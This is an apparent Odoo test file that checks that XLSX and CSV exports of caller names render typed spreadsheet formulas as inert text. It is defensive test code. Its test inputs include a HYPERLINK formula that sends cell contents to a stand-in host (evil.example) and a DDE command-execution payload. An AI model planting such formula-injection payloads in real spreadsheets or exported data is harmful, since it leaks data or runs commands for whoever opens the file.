"""Text a caller or a visitor typed is exported as text, never as a live spreadsheet formula or link."""

import csv
import io
import json
import re
import zipfile

from odoo import http
from odoo.tests import HttpCase, tagged

from .common import AttaBeneficiaryCase

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open your file")'


@tagged("post_install", "-at_install")
class TestExportedTextStaysText(HttpCase, AttaBeneficiaryCase):
    def _export(self, model, field_names, groupby=(), file_format="xlsx", domain=()):
        Model = self.env[model]
        params = {
            "model": model,
            "fields": [
                {"name": name, "label": Model._fields[name].string, "type": Model._fields[name].type}
                for name in field_names
            ],
            "ids": False,
            "domain": list(domain),
            "groupby": list(groupby),
            "import_compat": False,
        }
        response = self.url_open(
            f"/web/export/{file_format}",
            data={"data": json.dumps(params), "csrf_token": http.Request.csrf_token(self)},
        )
        self.assertEqual(response.status_code, 200, response.text[:300])
        if file_format == "csv":
            return list(csv.reader(io.StringIO(response.content.decode())))
        with zipfile.ZipFile(io.BytesIO(response.content)) as book:
            sheet = book.read("xl/worksheets/sheet1.xml").decode()
            strings = book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in book.namelist() else ""
        return sheet, strings

    def test_a_formula_typed_as_a_name_is_exported_by_odoos_export_as_a_text_cell(self):
        for name in (FORMULA, "=1+1", "http://evil.example/login"):
            self.env["atta.interaction"].create(
                {"name": "Call", "caller_name": name, "channel_id": self.channel_phone.id}
            )
        # Exporting is a right an administrator gives (Odoo's "Access to export feature").
        self.officer.group_ids += self.env.ref("base.group_allow_export")
        self.authenticate(self.officer.login, self.officer.login)
        for groupby in ((), ("caller_name",)):
            with self.subTest(groupby=groupby):
                sheet, strings = self._export("atta.interaction", ["caller_name", "name"], groupby)
                self.assertNotIn("<f>", sheet, "no cell holds a formula")
                self.assertNotIn("hyperlink", sheet.lower(), "no cell is a link")
                self.assertIn("=HYPERLINK(", strings.replace("&quot;", '"'), "the text is there, as a string")
                self.assertIn("=1+1", strings)
                self.assertTrue(re.search(r'<c r="[A-Z]+\d+"[^>]* t="s"', sheet), "string cells")

    def test_a_formula_typed_as_a_name_is_exported_by_odoos_csv_export_behind_a_quote(self):
        typed = ("@SUM(1)", "\t=1+1", "\r=cmd|' /C calc'!A0", "=1+1", "+966", "-2+3")
        calls = self.env["atta.interaction"]
        for name in typed + ("Fatimah @ the desk", "Plain caller"):
            calls |= self.env["atta.interaction"].create(
                {"name": "Call", "caller_name": name, "channel_id": self.channel_phone.id}
            )
        self.officer.group_ids += self.env.ref("base.group_allow_export")
        self.authenticate(self.officer.login, self.officer.login)
        # These calls only: a database with sample data has others.
        rows = self._export(
            "atta.interaction", ["caller_name", "name"], file_format="csv", domain=[("id", "in", calls.ids)]
        )
        cells = {row[0] for row in rows[1:]}
        # Each typed formula behind Odoo's quote, once; a text with "@" inside stays as it was typed.
        self.assertEqual(cells, {"'" + name for name in typed} | {"Fatimah @ the desk", "Plain caller"})
